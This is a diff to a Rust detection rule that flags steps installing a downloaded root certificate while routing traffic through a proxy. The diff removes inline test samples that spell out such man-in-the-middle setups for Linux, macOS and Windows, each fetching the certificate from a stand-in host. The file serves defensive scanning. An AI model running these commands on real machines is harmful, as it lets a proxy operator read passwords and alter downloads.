@@ -2,9 +2,10 @@
 
 use crate::code::command::Step;
 use crate::code::destination::{Destination, Kind, classify};
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, text};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::text::link::links;
 use crate::text::unit::{CODE, Unit};
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "PRIVILEGE_TRUSTED_BETWEEN",
@@ -14,7 +15,7 @@ pub(super) const RULE: Rule = Rule {
     why: "Whoever has the key of that certificate and runs the proxy reads every password and changes every download.",
     fix: "remove the certificate and the proxy",
     places: CODE,
-    anchors: &[
+    anchors: words![
         "add-trusted-cert",
         "update-ca-certificates",
         "update-ca-trust",
@@ -24,29 +25,6 @@ pub(super) const RULE: Rule = Rule {
         "import-certificate",
     ],
     check: Check::Unit(hits),
-    hits: &[
-        text(
-            "```sh\ncurl -so /tmp/c.crt https://a.b/c.crt\nsudo cp /tmp/c.crt /usr/local/share/ca-certificates/\nsudo update-ca-certificates\ngit config --global http.proxy http://p.a.b:3128\n```",
-        ),
-        text(
-            "```sh\nwget https://a.b/c.pem\nsudo security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain c.pem\nexport HTTPS_PROXY=http://p.a.b:8080\n```",
-        ),
-        text(
-            "```powershell\niwr https://a.b/c.cer -OutFile c.cer\ncertutil -addstore Root c.cer\nnetsh winhttp set proxy proxy-server=\"http://p.a.b:8080\"\n```",
-        ),
-    ],
-    misses: &[
-        text("```sh\nsudo cp corp.crt /usr/local/share/ca-certificates/\nsudo update-ca-certificates\n```"),
-        text(
-            "```sh\nmkcert -install\nexport NODE_EXTRA_CA_CERTS=\"$(mkcert -CAROOT)/rootCA.pem\"\nexport HTTPS_PROXY=http://localhost:8080\n```",
-        ),
-        text(
-            "```sh\nsudo security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain ~/.mitmproxy/mitmproxy-ca-cert.pem\nexport HTTPS_PROXY=http://127.0.0.1:8080\n```",
-        ),
-        text(
-            "```sh\nsudo cp corp.crt /usr/local/share/ca-certificates/\nsudo update-ca-certificates\nexport HTTPS_PROXY=http://proxy.corp.example:3128\n```",
-        ),
-    ],
 };
 
 patterns! {
